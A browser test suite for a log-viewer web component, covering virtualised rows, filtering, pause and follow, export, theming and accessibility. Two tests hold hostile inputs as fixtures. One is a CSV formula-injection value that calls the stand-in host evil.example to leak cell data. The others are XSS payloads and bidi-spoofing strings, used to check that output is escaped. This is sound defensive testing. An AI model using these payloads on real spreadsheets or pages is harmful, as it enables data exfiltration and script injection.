// The panels in Chromium, fed by an in-page client with the same event API as LogStreamClient
// (exact control over what arrives and when). end-to-end.browser.test.ts uses real servers.
import { emulateMedia, sendKeys } from '@web/test-runner-commands';
import { expect } from 'chai';
import '@logwire/panels/define';
import type {
  LogwireCopyEvent,
  LogwireExportEvent,
  LogwireFollowChangeEvent,
  LogwirePauseChangeEvent,
  SystemLogPanel,
} from '@logwire/panels';
import { axeViolations } from './axe.js';
import { button, FakeClient, messages, part, rowCells, settle, shadow, system } from './fake-client.js';
import { until } from '../../../test/helpers/wait.js';

async function mount(setup: (panel: SystemLogPanel) => void = () => {}): Promise<{ panel: SystemLogPanel; client: FakeClient }> {
  const client = new FakeClient();
  const panel = document.createElement('system-log-panel');
  panel.style.height = '400px';
  panel.style.width = '1000px';
  setup(panel);
  panel.client = client.asClient();
  document.body.append(panel);
  await settle(panel);
  return { panel, client };
}

function viewport(panel: SystemLogPanel): HTMLElement {
  return part(panel, 'list');
}

async function scrollTo(panel: SystemLogPanel, top: number): Promise<void> {
  const list = viewport(panel);
  list.scrollTop = top;
  list.dispatchEvent(new Event('scroll'));
  await settle(panel);
}

/** Presses a key as a user does (a real key press in the browser), then lets the panel render. */
async function press(panel: SystemLogPanel, key: string): Promise<void> {
  await sendKeys({ press: key });
  await settle(panel);
}

afterEach(() => document.body.replaceChildren());

describe('<system-log-panel>', () => {
  it('holds 100,000 entries with at most 300 rendered rows and renders the ones scrolled to', async () => {
    const { panel, client } = await mount((p) => (p.limit = 100_000));
    for (let i = 0; i < 100_000; i++) client.emit('message', system(`line ${i}`));
    await settle(panel);
    expect(panel.entries.length).to.equal(100_000);
    expect(part(panel, 'count').textContent).to.equal('100000 / 100000');
    const rendered = shadow(panel).querySelectorAll('[part="row"]').length;
    expect(rendered).to.be.at.most(300);
    expect(rendered).to.be.at.least(20);
    // Following: the newest line is rendered at the bottom of the viewport.
    expect(messages(panel).at(-1)).to.equal('line 99999');
    await scrollTo(panel, 50_000 * 20);
    expect(panel.follow).to.equal(false);
    const shown = messages(panel);
    expect(shown).to.include('line 50000');
    expect(shown).to.include('line 50010');
    expect(shown.length).to.be.at.most(300);
    // The row for line 50000 sits at the top of the viewport.
    const row = [...shadow(panel).querySelectorAll('[part="row"]')].find((r) => r.querySelector('.message')?.textContent === 'line 50000')!;
    expect(Math.round(row.getBoundingClientRect().top - viewport(panel).getBoundingClientRect().top)).to.equal(0);
  });

  it('shows the seed columns and expands a row into a tree of all fields, with copy', async () => {
    const { panel, client } = await mount((p) => (p.timeZone = 'utc'));
    client.emit(
      'message',
      system('High memory usage detected', {
        level: 'WARNING',
        logger: 'orchestrator.instance_manager',
        module: 'manager',
        function: 'check',
        line: 7,
        memory_mb: 512,
        tags: { pool: 'a', ids: [1, 2] },
      }),
    );
    await settle(panel);
    expect([...shadow(panel).querySelectorAll('[part="column-header"] .column-title .title')].map((s) => s.textContent)).to.deep.equal([
      'Time',
      'Level',
      'Logger',
      'Module',
      'Function:Line',
      'Message',
    ]);
    const [cells] = rowCells(panel);
    expect(cells!.slice(1)).to.deep.equal(['WARNING', 'orchestrator.instance_manager', 'manager', 'check:7', 'High memory usage detected']);
    expect(cells![0]).to.match(/^\d\d:\d\d:\d\d\.\d{3}$/);

    const row = shadow(panel).querySelector<HTMLElement>('[part="row"]')!;
    expect(row.getAttribute('aria-expanded')).to.equal('false');
    row.click();
    await settle(panel);
    expect(row.getAttribute('aria-expanded')).to.equal('true');
    const detail = part(panel, 'detail');
    const items = [...detail.querySelectorAll('li')].map(
      (li) => li.querySelector(':scope > .key, :scope > details > summary > .key')?.textContent,
    );
    expect(items).to.include.members(['memory_mb', 'tags', 'pool', 'ids', 'timestamp', 'line']);
    const memory = [...detail.querySelectorAll('li')].find((li) => li.querySelector(':scope > .key')?.textContent === 'memory_mb')!;
    expect(memory.querySelector('.value')!.textContent).to.equal('512');

    let copied = '';
    panel.addEventListener('logwire-copy', (event: LogwireCopyEvent) => (copied = event.text));
    button(panel, '[part="copy-button"]').click();
    await until(() => copied !== '', 'copy event');
    expect(JSON.parse(copied).data.memory_mb).to.equal(512);
    expect(JSON.parse(copied).data.tags).to.deep.equal({ pool: 'a', ids: [1, 2] });

    row.click();
    await settle(panel);
    expect(shadow(panel).querySelector('[part="detail"]')).to.equal(null);
  });

  it('combines level toggles, logger and module filters and search (text, regex, metadata) and counts shown / total', async () => {
    const { panel, client } = await mount();
    client.emit(
      'message',
      system('user alice logged in', { logger: 'auth.session', module: 'session', level: 'INFO', user: { name: 'Alice' } }),
    );
    client.emit('message', system('disk almost full', { logger: 'infra.disk', module: 'disk', level: 'WARNING' }));
    client.emit('message', system('payment failed', { logger: 'billing.pay', module: 'pay', level: 'ERROR', order: 'ORD-77' }));
    client.emit('message', system('cache miss', { logger: 'auth.cache', module: 'cache', level: 'DEBUG' }));
    await settle(panel);
    expect(part(panel, 'count').textContent).to.equal('4 / 4');

    button(panel, '.level-toggle[data-level="DEBUG"]').click();
    await settle(panel);
    expect(button(panel, '.level-toggle[data-level="DEBUG"]').getAttribute('aria-pressed')).to.equal('false');
    expect(messages(panel)).to.deep.equal(['user alice logged in', 'disk almost full', 'payment failed']);
    expect(part(panel, 'count').textContent).to.equal('3 / 4');

    // The logger box reads logger patterns (the protocol's one rule); a plain term matches anywhere.
    const logger = shadow(panel).querySelector<HTMLInputElement>('.logger-filter')!;
    const filterLogger = async (text: string): Promise<string[]> => {
      logger.value = text;
      logger.dispatchEvent(new Event('input'));
      await settle(panel);
      return messages(panel);
    };
    expect(await filterLogger('auth')).to.deep.equal(['user alice logged in']);
    expect(await filterLogger('*.pay')).to.deep.equal(['payment failed']);
    expect(await filterLogger('!auth.*')).to.deep.equal(['disk almost full', 'payment failed']);
    expect(await filterLogger('infra.* billing.*')).to.deep.equal(['disk almost full', 'payment failed']);
    expect(await filterLogger('b?lling.pay, !*disk')).to.deep.equal(['payment failed']);
    // Case-sensitive, as everywhere a logger pattern is matched.
    expect(await filterLogger('AUTH')).to.deep.equal([]);
    expect(await filterLogger('auth')).to.deep.equal(['user alice logged in']);
    logger.value = '';
    logger.dispatchEvent(new Event('input'));
    const module = shadow(panel).querySelector<HTMLInputElement>('.module-filter')!;
    module.value = 'pay';
    module.dispatchEvent(new Event('input'));
    await settle(panel);
    expect(messages(panel)).to.deep.equal(['payment failed']);
    module.value = '';
    module.dispatchEvent(new Event('input'));

    // Search covers extra fields (nested values too), case-insensitively.
    const search = part(panel, 'search') as HTMLInputElement;
    search.value = 'ord-77';
    search.dispatchEvent(new Event('input'));
    await settle(panel);
    expect(messages(panel)).to.deep.equal(['payment failed']);
    search.value = 'alice';
    search.dispatchEvent(new Event('input'));
    await settle(panel);
    expect(messages(panel)).to.deep.equal(['user alice logged in']);
    expect([...shadow(panel).querySelectorAll('[part="match"]')].map((m) => m.textContent)).to.deep.equal(['alice']);
    expect(part(panel, 'count').textContent).to.equal('1 / 4');

    button(panel, '[part="regex-toggle"]').click();
    search.value = '^(disk|payment) ';
    search.dispatchEvent(new Event('input'));
    await settle(panel);
    expect(messages(panel)).to.deep.equal(['disk almost full', 'payment failed']);
    search.value = '(unclosed';
    search.dispatchEvent(new Event('input'));
    await settle(panel);
    expect(search.getAttribute('aria-invalid')).to.equal('true');
    expect(messages(panel)).to.deep.equal(['user alice logged in', 'disk almost full', 'payment failed']);

    // Highlight keeps every (level-filtered) row and marks the matches.
    button(panel, '[part="regex-toggle"]').click();
    search.value = 'fail';
    search.dispatchEvent(new Event('input'));
    button(panel, '[part="highlight-toggle"]').click();
    await settle(panel);
    expect(messages(panel)).to.deep.equal(['user alice logged in', 'disk almost full', 'payment failed']);
    expect([...shadow(panel).querySelectorAll('[part="match"]')].map((m) => m.textContent)).to.deep.equal(['fail']);
    expect(part(panel, 'count').textContent).to.equal('3 / 4');
  });

  it('buffers everything while paused, shows "N new", and shows it all on resume', async () => {
    const { panel, client } = await mount();
    client.emit('message', system('before'));
    await settle(panel);
    button(panel, '[part="pause-button"]').click();
    await settle(panel);
    expect(panel.paused).to.equal(true);
    for (let i = 0; i < 1500; i++) client.emit('message', system(`during ${i}`));
    await settle(panel);
    expect(messages(panel)).to.deep.equal(['before']);
    expect(part(panel, 'new-button').textContent).to.equal('1500 new');
    expect(part(panel, 'count').textContent).to.equal('1 / 1');
    part(panel, 'new-button').click();
    await settle(panel);
    expect(panel.paused).to.equal(false);
    expect(panel.entries.length).to.equal(1501);
    expect(panel.entries.at(-1)!.data.message).to.equal('during 1499');
    expect(messages(panel).at(-1)).to.equal('during 1499');
  });

  it('holds at most `limit` entries while paused, marks how many were dropped, and resumes with the newest', async () => {
    const { panel, client } = await mount((p) => (p.limit = 1000));
    client.emit('message', system('before'));
    await settle(panel);
    panel.pause();
    await settle(panel);
    for (let batch = 0; batch < 20; batch++) {
      for (let i = 0; i < 10_000; i++) client.emit('message', system(`during ${batch * 10_000 + i}`));
      await settle(panel);
    }
    // The marker takes one of the `limit` places: 999 entries are held, the 199,001 older ones dropped.
    expect(panel.bufferedCount).to.equal(999);
    expect(panel.droppedWhilePaused).to.equal(199_001);
    expect(part(panel, 'new-button').textContent).to.equal('999 new, 199001 dropped');
    expect(messages(panel)).to.deep.equal(['before']);
    panel.resume();
    await settle(panel);
    expect(panel.paused).to.equal(false);
    expect(panel.entries.length).to.equal(999);
    expect(panel.entries[0]!.data.message).to.equal('during 199001');
    expect(panel.entries.at(-1)!.data.message).to.equal('during 199999');
    expect(messages(panel).at(-1)).to.equal('during 199999');
    expect(panel.droppedWhilePaused).to.equal(0);
    await scrollTo(panel, 0);
    expect(shadow(panel).querySelector('[part="gap"]')!.textContent).to.equal('199001 messages dropped while paused, limit');
    const marker = { type: 'gap', data: { from: null, to: null, reason: 'limit', count: 199_001 } };
    expect(JSON.parse(panel.exportAs('json'))[0]).to.deep.equal(marker);
  });

  it('stops following when scrolled up, follows again at the bottom, and keeps the view steady while old rows are evicted', async () => {
    const { panel, client } = await mount((p) => (p.limit = 500));
    const changes: boolean[] = [];
    panel.addEventListener('logwire-follow-change', (event: LogwireFollowChangeEvent) => changes.push(event.follow));
    for (let i = 0; i < 500; i++) client.emit('message', system(`m${i}`));
    await settle(panel);
    expect(panel.follow).to.equal(true);
    await scrollTo(panel, 200 * 20);
    expect(panel.follow).to.equal(false);
    expect(button(panel, '[part="follow-button"]').getAttribute('aria-pressed')).to.equal('false');
    const topText = () => {
      const top = viewport(panel).getBoundingClientRect().top;
      const row = [...shadow(panel).querySelectorAll('[part="row"]')].find((r) => Math.abs(r.getBoundingClientRect().top - top) < 1);
      return row?.querySelector('.message')?.textContent;
    };
    expect(topText()).to.equal('m200');
    // 100 new entries evict the 100 oldest: the row at the top must stay the same entry.
    for (let i = 500; i < 600; i++) client.emit('message', system(`m${i}`));
    await settle(panel);
    expect(panel.entries[0]!.data.message).to.equal('m100');
    expect(topText()).to.equal('m200');
    expect(panel.follow).to.equal(false);
    expect(part(panel, 'new-button').textContent).to.equal('100 new ↓');

    const list = viewport(panel);
    await scrollTo(panel, list.scrollHeight - list.clientHeight);
    expect(panel.follow).to.equal(true);
    expect(shadow(panel).querySelector('[part="new-button"]')).to.equal(null);
    client.emit('message', system('newest'));
    await settle(panel);
    expect(messages(panel).at(-1)).to.equal('newest');
    expect(Math.round(list.scrollHeight - list.scrollTop - list.clientHeight)).to.equal(0);
    expect(changes).to.deep.equal([false, true]);
  });

  it('stops following when the user scrolls up between frames at a high rate, or turns the wheel up', async () => {
    const { panel, client } = await mount();
    for (let i = 0; i < 300; i++) client.emit('message', system(`r${i}`));
    await settle(panel);
    const list = viewport(panel);
    expect(panel.follow).to.equal(true);
    // The user's scroll lands, and an update runs before its scroll event does.
    list.scrollTop = 100;
    panel.requestUpdate();
    await panel.updateComplete;
    expect(panel.follow).to.equal(false);
    for (let i = 300; i < 400; i++) client.emit('message', system(`r${i}`));
    await settle(panel);
    expect(list.scrollTop).to.equal(100);

    await scrollTo(panel, list.scrollHeight - list.clientHeight);
    expect(panel.follow).to.equal(true);
    list.dispatchEvent(new WheelEvent('wheel', { deltaY: -120, bubbles: true }));
    await settle(panel);
    expect(panel.follow).to.equal(false);
  });

  it('exports the filtered view as JSON, NDJSON and CSV with formula cells neutralised', async () => {
    const { panel, client } = await mount();
    client.emit('message', system('=HYPERLINK("http://evil.example/?"&A1,"x")', { level: 'ERROR' }));
    client.emit('message', system('@SUM(1+1)', { level: 'ERROR' }));
    client.emit('message', system('+cmd', { level: 'ERROR', logger: '-2+3' }));
    client.emit('message', system('\t=1+1', { level: 'ERROR', module: '\r=1+1' }));
    client.emit('message', system(' =1+1', { level: 'ERROR', function: 'a,b;"c"\nd' }));
    client.emit('message', system('hidden', { level: 'INFO' }));
    client.emit('gap', { from: '1-0', to: '1-9', reason: 'dropped', count: 9 });
    await settle(panel);
    panel.levels = ['ERROR'];
    await settle(panel);
    const exports: LogwireExportEvent[] = [];
    panel.addEventListener('logwire-export', (event: LogwireExportEvent) => {
      event.preventDefault();
      exports.push(event);
    });
    for (const format of ['json', 'ndjson', 'csv']) button(panel, `.export-${format}`).click();
    expect(exports.map((e) => [e.format, e.count])).to.deep.equal([
      ['json', 5],
      ['ndjson', 5],
      ['csv', 5],
    ]);
    const json = JSON.parse(exports[0]!.content) as { type: string; data: { message?: string; reason?: string } }[];
    expect(json.map((item) => item.type)).to.deep.equal(['system_log', 'system_log', 'system_log', 'system_log', 'system_log', 'gap']);
    expect(json[0]!.data.message).to.equal('=HYPERLINK("http://evil.example/?"&A1,"x")');
    const ndjson = exports[1]!.content
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as { data: { message?: string } });
    expect(ndjson.length).to.equal(6);
    expect(ndjson[4]!.data.message).to.equal(' =1+1');
    const csv = exports[2]!.content.split('\r\n');
    expect(csv[0]).to.equal('type,timestamp,level,logger,module,function,line,message,fields');
    expect(csv[1]).to.match(/^system_log,[^,]+,ERROR,app\.core,core,run,42,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""x""\)",\{\}$/);
    expect(csv[2]).to.match(/,'@SUM\(1\+1\),\{\}$/);
    expect(csv[3]).to.match(/^system_log,[^,]+,ERROR,'-2\+3,core,run,42,'\+cmd,\{\}$/);
    // A CR is written as an escape (as in the JSON exports), so it neither splits the row nor leads a formula.
    expect(csv[4]).to.equal(`system_log,${panel.filteredEntries[3]!.data.timestamp},ERROR,app.core,\\u000d=1+1,run,42,'\t=1+1,{}`);
    expect(csv[5]).to.equal(`system_log,${panel.filteredEntries[4]!.data.timestamp},ERROR,app.core,core,"a,b;""c""\nd",42,' =1+1,{}`);
    expect(csv[6]).to.equal('gap,,,,,,,"~9 messages missing, dropped",');
    expect(csv[7]).to.equal('');
  });

  it('fires typed events that bubble out of shadow roots', async () => {
    const host = document.createElement('div');
    document.body.append(host);
    const root = host.attachShadow({ mode: 'open' });
    const client = new FakeClient();
    const panel = document.createElement('system-log-panel');
    panel.client = client.asClient();
    root.append(panel);
    await settle(panel);
    const seen: Event[] = [];
    for (const name of ['logwire-pause-change', 'logwire-follow-change', 'logwire-clear'] as const)
      document.addEventListener(name, (event) => seen.push(event), { once: true });
    panel.pause();
    panel.follow = false;
    await settle(panel);
    panel.clear();
    expect(seen.map((event) => [event.type, event.constructor.name, event.bubbles, event.composed])).to.deep.equal([
      ['logwire-pause-change', 'LogwirePauseChangeEvent', true, true],
      ['logwire-follow-change', 'LogwireFollowChangeEvent', true, true],
      ['logwire-clear', 'LogwireClearEvent', true, true],
    ]);
    expect((seen[0] as LogwirePauseChangeEvent).paused).to.equal(true);
    expect((seen[1] as LogwireFollowChangeEvent).follow).to.equal(false);
  });

  it('clears on the Clear button', async () => {
    const { panel, client } = await mount();
    client.emit('message', system('a'));
    client.emit('message', system('b'));
    await settle(panel);
    let removed = -1;
    panel.addEventListener('logwire-clear', (event) => (removed = event.removed));
    button(panel, '[part="clear-button"]').click();
    await settle(panel);
    expect(removed).to.equal(2);
    expect(messages(panel)).to.deep.equal([]);
    expect(part(panel, 'count').textContent).to.equal('0 / 0');
    expect(part(panel, 'empty').textContent).to.equal('No logs yet');
  });

  it('says it cannot reach the stream after three failed attempts, and Live again once it connects', async () => {
    const { panel, client } = await mount();
    const label = async (...states: ('connecting' | 'live' | 'offline')[]): Promise<string | null> => {
      for (const state of states) client.emit('state', state);
      await settle(panel);
      return part(panel, 'state').textContent;
    };
    expect(await label('connecting', 'offline', 'connecting', 'offline')).to.equal('Offline');
    const cannot = 'Cannot reach ws://logs.example/ws/logs: check the URL, authentication and allowed origins';
    expect(await label('connecting', 'offline')).to.equal(cannot);
    expect(await label('connecting')).to.equal('Connecting…');
    expect(await label('offline')).to.equal(cannot);
    expect(await label('connecting', 'live')).to.equal('Live');
    expect(await label('offline')).to.equal('Offline');
  });

  it('shows local or UTC time, the connection state and inline gap markers', async () => {
    const { panel, client } = await mount((p) => p.setAttribute('time-zone', 'utc'));
    client.emit('message', {
      type: 'system_log',
      data: { timestamp: '2026-03-04T22:15:30.250Z', level: 'INFO', logger: 'a', message: 'timed', module: 'm', function: 'f', line: 1 },
    });
    await settle(panel);
    expect(shadow(panel).querySelector('[part="row"] .time')!.textContent).to.equal('22:15:30.250');
    panel.setAttribute('time-zone', 'local');
    await settle(panel);
    const local = new Date('2026-03-04T22:15:30.250Z');
    const expected = `${String(local.getHours()).padStart(2, '0')}:${String(local.getMinutes()).padStart(2, '0')}:30.250`;
    expect(shadow(panel).querySelector('[part="row"] .time')!.textContent).to.equal(expected);

    const labels: string[] = [];
    for (const state of ['connecting', 'live', 'catching-up', 'offline'] as const) {
      client.emit('state', state);
      await settle(panel);
      labels.push(part(panel, 'state').textContent);
    }
    expect(labels).to.deep.equal(['Connecting…', 'Live', 'Catching up', 'Offline']);

    client.emit('gap', { from: '5-1', to: '5-120', reason: 'trimmed', count: 120 });
    client.emit('gap', { from: null, to: null, reason: 'epoch' });
    client.emit('message', system('after gap'));
    await settle(panel);
    expect([...shadow(panel).querySelectorAll('[part="gap"]')].map((gap) => gap.textContent)).to.deep.equal([
      '~120 messages missing, trimmed',
      'Messages missing, epoch',
    ]);
    expect(messages(panel)).to.deep.equal(['timed', 'after gap']);
    expect(part(panel, 'count').textContent).to.equal('2 / 2');
  });

  it('renders HTML, scripts, javascript: URLs and bidi overrides as text', async () => {
    const payloads = [
      'javascript:__xss()',
      '<img src=x onerror=__xss()>',
      '"><script>__xss()</script>',
      '<a href="javascript:__xss()">x</a>',
      '<style>*{display:none}</style>',
      '${__xss()}',
    ];
    const { panel, client } = await mount();
    (window as unknown as { __xss: () => void }).__xss = () => {
      throw new Error('payload executed');
    };
    for (const payload of payloads)
      client.emit('message', system(payload, { logger: payload, module: payload, function: payload, [payload]: payload }));
    client.emit('message', system('admin\u202Egnp.exe delete\u2066user\u2069 \u001b[31mRED\u001b[0m'));
    client.emit('message', system('x', { level: 'info" style="background:red' }));
    await settle(panel);
    const cells = rowCells(panel);
    for (const [index, payload] of payloads.entries()) {
      expect(cells[index]!.slice(2)).to.deep.equal([payload, payload, `${payload}:42`, payload]);
    }
    expect(shadow(panel).querySelectorAll('[part="row"] img, [part="row"] script, [part="row"] a, [part="row"] style').length).to.equal(0);
    expect(cells[6]![5]).to.equal('admin⟨U+202E⟩gnp.exe delete⟨U+2066⟩user⟨U+2069⟩ ␛[31mRED␛[0m');
    const level = shadow(panel).querySelectorAll<HTMLElement>('[part="row"] .level')[7]!;
    expect(level.textContent).to.equal('info" style="background:red');
    expect(level.dataset['level']).to.equal('UNKNOWN');
    expect(level.getAttribute('style')).to.equal(null);
    // The expanded tree escapes keys and values too.
    shadow(panel).querySelector<HTMLElement>('[part="row"]')!.click();
    await settle(panel);
    expect(part(panel, 'detail').querySelectorAll('img, script, a, style').length).to.equal(0);
    // Copy puts JSON on the clipboard with bidi and control characters as escapes, not raw.
    shadow(panel).querySelectorAll<HTMLElement>('[part="row"]')[6]!.click();
    await settle(panel);
    let copied = '';
    panel.addEventListener('logwire-copy', (event) => (copied = event.text));
    button(panel, '[part="copy-button"]').click();
    expect(copied).to.contain('"message": "admin\\u202egnp.exe delete\\u2066user\\u2069 \\u001b[31mRED\\u001b[0m"');
    expect(JSON.parse(copied).data.message).to.equal('admin\u202Egnp.exe delete\u2066user\u2069 \u001b[31mRED\u001b[0m');
  });

  it('cuts a 1 MiB message in its cell and shows all of it when expanded', async () => {
    const { panel, client } = await mount();
    const huge = 'x'.repeat(1 << 20);
    client.emit('message', system(huge));
    await settle(panel);
    const cell = messages(panel)[0]!;
    expect(cell.length).to.equal(2001);
    expect(cell.endsWith('…')).to.equal(true);
    shadow(panel).querySelector<HTMLElement>('[part="row"]')!.click();
    await settle(panel);
    const value = [...part(panel, 'detail').querySelectorAll('li')]
      .find((li) => li.querySelector(':scope > .key')?.textContent === 'message')!
      .querySelector('.value')!;
    expect(value.textContent.length).to.equal(1 << 20);
  });

  it('shows records with missing or odd fields without failing, and reads levels given as a string', async () => {
    const { panel, client } = await mount();
    client.emit('message', { type: 'system_log', data: {} } as never);
    client.emit('message', {
      type: 'system_log',
      data: { timestamp: 'yesterday', level: 40, logger: null, message: { nested: true }, module: 'm', function: 'f', line: '7' },
    } as never);
    client.emit('message', system('normal', { level: 'ERROR' }));
    await settle(panel);
    const cells = rowCells(panel);
    expect(cells.slice(0, 2)).to.deep.equal([
      ['', '', '', '', ':', ''],
      ['yesterday', '40', '', 'm', 'f:7', '{"nested":true}'],
    ]);
    expect(cells[2]!.slice(1)).to.deep.equal(['ERROR', 'app.core', 'core', 'run:42', 'normal']);
    expect(shadow(panel).querySelectorAll<HTMLElement>('[part="row"] .level')[1]!.dataset['level']).to.equal('UNKNOWN');
    (panel as unknown as { levels: string }).levels = 'error, critical';
    await settle(panel);
    expect(panel.levels).to.deep.equal(['ERROR', 'CRITICAL']);
    expect(messages(panel)).to.deep.equal(['normal']);
  });

  it('is themeable: light by default, dark by attribute, custom properties and parts', async () => {
    const { panel } = await mount((p) => p.setAttribute('theme', 'light'));
    expect(getComputedStyle(panel).backgroundColor).to.equal('rgb(255, 255, 255)');
    panel.setAttribute('theme', 'dark');
    await settle(panel);
    expect(getComputedStyle(panel).backgroundColor).to.equal('rgb(21, 24, 33)');
    panel.style.setProperty('--logwire-background', 'rgb(1, 2, 3)');
    expect(getComputedStyle(panel).backgroundColor).to.equal('rgb(1, 2, 3)');
    const names = new Set([...shadow(panel).querySelectorAll('[part]')].flatMap((element) => element.getAttribute('part')!.split(' ')));
    for (const name of [
      'base',
      'header',
      'title',
      'count',
      'state',
      'toolbar',
      'levels',
      'level-toggle',
      'filter',
      'search',
      'regex-toggle',
      'highlight-toggle',
      'pause-button',
      'follow-button',
      'clear-button',
      'export',
      'export-button',
      'column-header',
      'list',
      'empty',
      'announcer',
    ]) {
      expect(names.has(name), name).to.equal(true);
    }
  });

  it('follows prefers-color-scheme unless a theme attribute says otherwise', async () => {
    const { panel } = await mount();
    try {
      await emulateMedia({ colorScheme: 'dark' });
      expect(getComputedStyle(panel).backgroundColor).to.equal('rgb(21, 24, 33)');
      panel.setAttribute('theme', 'light');
      expect(getComputedStyle(panel).backgroundColor).to.equal('rgb(255, 255, 255)');
      panel.removeAttribute('theme');
      await emulateMedia({ colorScheme: 'light' });
      expect(getComputedStyle(panel).backgroundColor).to.equal('rgb(255, 255, 255)');
    } finally {
      await emulateMedia({ colorScheme: 'light' });
    }
  });

  it('navigates with the keyboard: arrows, Home/End, / to search, Space to pause, Enter to expand', async () => {
    const { panel, client } = await mount();
    for (let i = 0; i < 100; i++) client.emit('message', system(`k${i}`));
    await settle(panel);
    const list = viewport(panel);
    list.focus();
    await press(panel, 'Home');
    const active = () => (shadow(panel).activeElement as HTMLElement | null)?.querySelector('.message')?.textContent;
    expect(active()).to.equal('k0');
    expect(panel.follow).to.equal(false);
    await press(panel, 'ArrowDown');
    await press(panel, 'ArrowDown');
    expect(active()).to.equal('k2');
    await press(panel, 'ArrowUp');
    expect(active()).to.equal('k1');
    await press(panel, 'Enter');
    expect(shadow(panel).activeElement!.getAttribute('aria-expanded')).to.equal('true');
    await press(panel, 'End');
    expect(active()).to.equal('k99');
    expect(panel.follow).to.equal(true);
    await press(panel, 'Space');
    expect(panel.paused).to.equal(true);
    await press(panel, 'Space');
    expect(panel.paused).to.equal(false);
    await press(panel, '/');
    expect(shadow(panel).activeElement).to.equal(part(panel, 'search'));
  });

  it('has role="log" and announces new entries to screen readers as summaries', async () => {
    // The interval between announcements is checked with fake timers in announcer.test.ts.
    const { panel, client } = await mount((p) => (p.announceInterval = 50));
    expect(part(panel, 'list').getAttribute('role')).to.equal('log');
    const announcer = part(panel, 'announcer');
    expect(announcer.getAttribute('aria-live')).to.equal('polite');
    client.emit('message', system('one'));
    client.emit('message', system('two', { level: 'ERROR' }));
    await until(() => announcer.textContent === '2 new entries, 1 error', 'first announcement');
    client.emit('message', system('three'));
    await until(() => announcer.textContent === '1 new entry', 'second announcement');
  });

  it('keeps working after being moved in the document', async () => {
    const { panel, client } = await mount((p) => (p.announceInterval = 50));
    client.emit('message', system('before move'));
    await settle(panel);
    const other = document.createElement('div');
    document.body.append(other);
    other.append(panel);
    panel.style.height = '200px';
    client.emit('message', system('after move'));
    await until(() => messages(panel).at(-1) === 'after move', 'row after the move');
    await until(() => part(panel, 'announcer').textContent === '1 new entry', 'announcement after the move');
    // The resize observer follows the new size: a 200 px list renders fewer rows than a 400 px one.
    for (let i = 0; i < 100; i++) client.emit('message', system(`fill ${i}`));
    await until(
      () =>
        shadow(panel).querySelectorAll('[part="row"]').length > 0 &&
        shadow(panel).querySelectorAll('[part="row"]').length <= Math.ceil(200 / 20) + 2 * 8 + 1,
      'rows for 200 px',
    );
  });

  it('is accessible', async () => {
    const { panel, client } = await mount();
    client.emit('message', system('first', { level: 'WARNING', extra: { a: 1 } }));
    client.emit('gap', { from: '1-0', to: '1-3', reason: 'dropped', count: 3 });
    client.emit('message', system('second', { level: 'ERROR' }));
    await settle(panel);
    shadow(panel).querySelector<HTMLElement>('[part="row"]')!.click();
    await settle(panel);
    for (const theme of ['light', 'dark']) {
      panel.setAttribute('theme', theme);
      await settle(panel);
      expect(await axeViolations(panel), theme).to.deep.equal([]);
    }
  });
});
